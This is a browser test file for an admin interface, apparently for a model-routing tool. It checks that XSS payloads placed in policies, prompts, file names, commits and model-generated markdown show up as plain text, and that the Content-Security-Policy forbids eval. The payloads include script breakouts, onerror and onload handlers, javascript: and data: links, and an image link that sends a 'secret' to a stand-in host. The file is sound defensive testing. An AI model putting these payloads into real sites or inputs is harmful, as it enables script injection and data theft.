/** Text that would like to be a program: in every file, in commits, in names and in what models say. None of it runs. */
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { expect, onTestFinished, test } from 'vitest';
import { startOllama } from '../../ollama-server.ts';
import { card, goTo } from './acts.ts';
import { inBrowser, openAdmin } from './browser.ts';
import { small, smallPolicy } from './small.ts';

/** Each way in has a number, so that a failure says which one was open. */
const hostile = (way: number) =>
  `</script><script>window.__pwned=${way}</script><img src=x onerror=window.__pwned=${way}> \u202egnp.exe <a href="javascript:window.__pwned=${way}">a</a>`;
const quoted = (way: number) => JSON.stringify(hostile(way));
const markdown = [
  'Here you are: [click](javascript:window.__pwned=20), ![picture](https://elsewhere.example/?said=secret)',
  hostile(21),
  '<svg onload="window.__pwned=22"></svg><iframe src="https://elsewhere.example"></iframe>',
  '<style>@import "https://elsewhere.example/a.css";</style><form action="https://elsewhere.example"><button>b</button></form>',
  '[page](data:text/html,<script>window.__pwned=23</script>) and [a place](https://example.org/a)',
  '```\n<script>window.__pwned=24</script>\n```',
].join('\n\n');

const policy = smallPolicy
  .replace('about: Three routes, for whoever tries things out.', `about: ${quoted(1)}`)
  .replace('why: it writes the best prose', `why: ${quoted(2)}`)
  .replace('optimized_for: creativity', `optimized_for: [${quoted(3)}]`)
  .replace('# both kinds', `# ${hostile(4)}`);

async function prepare(folder: string): Promise<void> {
  await small(folder);
  const files = {
    'policy.yaml': policy,
    'prompts/code.md': `${hostile(5)}\n`,
    'lists/greetings.txt': `hello\n${hostile(6)}\n`,
    'tests/hostile.test.yaml': `suite: ${quoted(7)}\ncases:\n  - case: ${quoted(8)}\n    prompt: ${quoted(9)}\n    expect: { route: creative }\n`,
  };
  for (const [path, text] of Object.entries(files)) await writeFile(join(folder, path), text);
}

/** The words stand there to be read, and nothing was made of them. */
async function isText(page: Page, way: number): Promise<void> {
  await page.getByText(`window.__pwned=${way}`).first().waitFor();
  expect(await page.locator('main img:not(.cm-widgetBuffer), main script, main iframe, [onerror]').count()).toBe(0);
}

inBrowser('hostile text', () => {
  test('in policies, prompts, lists, intents, tests, drafts, commits and names is shown as text on every page', async () => {
    const { page, git, write, another } = await openAdmin({
      prepare,
      draft: { 'prompts/friendly.md': hostile(10), 'prompts/x-onerror.md': hostile(11) },
    });
    await isText(page, 2);
    await card(page, 'Route creative')
      .getByRole('button', { name: /^Because / })
      .click();
    await page.locator('[data-popover] textarea').waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: /^Dry run/ }).click();
    await page.getByLabel('Prompt', { exact: true }).fill(`Write a poem: ${hostile(12)}`);
    await page.getByText('by creative').first().waitFor();
    await page.getByRole('button', { name: 'Save as test' }).click();
    await goTo(page, 'Prompts');
    await isText(page, 5);
    await goTo(page, 'Lists');
    await isText(page, 6);
    await goTo(page, 'Intents');
    await page.getByLabel('Texts, one a line').fill(hostile(13));
    await page.getByRole('cell', { name: 'window.__pwned=13' }).first().waitFor();
    await goTo(page, 'Tests');
    await goTo(page, 'Models');
    await goTo(page, 'Changes');
    await isText(page, 10);

    await git(
      'commit',
      '-q',
      '--allow-empty',
      '--author',
      `${hostile(14).replaceAll(/[<>]/g, '')} <m@example.org>`,
      '-m',
      'x',
    );
    await write('intents.yaml', `${(await git('show', 'HEAD:intents.yaml')).replaceAll('small talk', quoted(15))}\n`);
    await git('commit', '-qam', `${hostile(16)}\n\n${hostile(17)}`);
    await goTo(page, 'History');
    await isText(page, 16);
    await isText(page, 17);
    await another('/models', hostile(18).replaceAll(/[<>]/g, '').slice(0, 90));
    await page.getByTitle(/__pwned=18.* is here/).waitFor();
    await page.keyboard.press('Control+k');
    await page.keyboard.type(hostile(19));
    await page.getByText(/Nothing is called/).waitFor();
  });

  test('in names that no policy may have is told as an error, as text', async () => {
    const { page, write, git } = await openAdmin({ prepare: small, environment: { LOG_LEVEL: 'silent' } });
    await card(page, 'Route creative').waitFor();
    await write('prompts/<img src=x onerror=window.__pwned=32>.md', 'A prompt.\n');
    await write(
      'policy.yaml',
      smallPolicy.replace('id: creative', `id: ${quoted(30)}`).replace('use: phi3', `use: ${quoted(31)}`),
    );
    await page.getByRole('alert').filter({ hasText: 'The files on disk do not compile.' }).waitFor();
    await isText(page, 31);
    await goTo(page, 'Changes');
    await isText(page, 32);
    await goTo(page, 'Prompts');
    await page.getByRole('link', { name: /__pwned=32/ }).click();
    await page.getByRole('heading', { level: 2, name: /__pwned=32/ }).waitFor();
    await git('add', '.');
    await git('commit', '-qm', 'odd names');
    await goTo(page, 'History');
    await page.locator('summary', { hasText: '__pwned=32' }).waitFor();
    await isText(page, 32);
  });

  test('of a model is markdown that can do nothing, and nothing is fetched from elsewhere', async () => {
    const ollama = await startOllama({ models: ['phi3', 'mistral:7b', 'qwen2.5'], script: () => ({ text: markdown }) });
    onTestFinished(() => ollama.close());
    const { page } = await openAdmin({
      prepare,
      path: '/play',
      environment: { SIMULATE: 'off', OLLAMA_BASE_URL: ollama.url },
    });
    await page.getByRole('textbox', { name: 'Message' }).fill(`Write a poem ${hostile(25)}`);
    await page.keyboard.press('Enter');
    const answer = page.locator('.markdown');
    await answer.getByText('Here you are').waitFor();
    expect(await answer.innerText()).toContain(hostile(21).slice(0, 40));
    expect(
      await answer.locator('img, script, iframe, svg, style, form, button, [onerror], [onload], [style]').count(),
    ).toBe(0);
    const links = answer.locator('a[href]');
    expect(await links.evaluateAll((all) => all.map((one) => one.getAttribute('href')))).toEqual([
      'https://example.org/a',
    ]);
    expect(await links.first().getAttribute('rel')).toContain('noopener');
    expect(await answer.locator('pre').innerText()).toContain('<script>window.__pwned=24</script>');
    await page
      .getByRole('button', { name: /Open the decision|creative/ })
      .last()
      .click();
    await page.getByRole('dialog', { name: 'Why this model' }).getByText('window.__pwned=2').first().waitFor();
    await page.keyboard.press('Escape');
    // Kept, and the same when it is read again.
    await page.waitForURL(/id=/);
    await page.reload();
    await answer.getByText('Here you are').waitFor();
  });

  test('would be stopped by the Content-Security-Policy, which every page and worker carries, and which knows no eval', async () => {
    const { page, url } = await openAdmin({ prepare: small });
    await card(page, 'Route creative').waitFor();
    const workers = page.workers().map((worker) => worker.url());
    expect(workers.length).toBeGreaterThan(0);
    for (const address of [`${url}/admin/policy`, `${url}/admin/anything/else`, ...workers]) {
      const policy = (await page.request.get(address, { headers: { accept: 'text/html' } })).headers()[
        'content-security-policy'
      ];
      expect(policy, address).toContain("default-src 'self'");
      expect(policy, address).not.toContain('unsafe-eval');
      expect(policy?.match(/script-src [^;]*/)?.[0], address).not.toContain('unsafe-inline');
    }
    // A page of its own: on the other one a refusal fails the test.
    const bare = await page.context().newPage();
    await bare.goto(`${url}/admin/models`);
    // Later, since what the test itself runs may do what the page may not.
    const refused = await bare.evaluate(
      () =>
        new Promise((resolve) => {
          setTimeout(() => {
            try {
              resolve(String(new Function('return 1')()));
            } catch (error) {
              resolve((error as Error).name);
            }
          });
        }),
    );
    expect(refused).toBe('EvalError');
  });
});
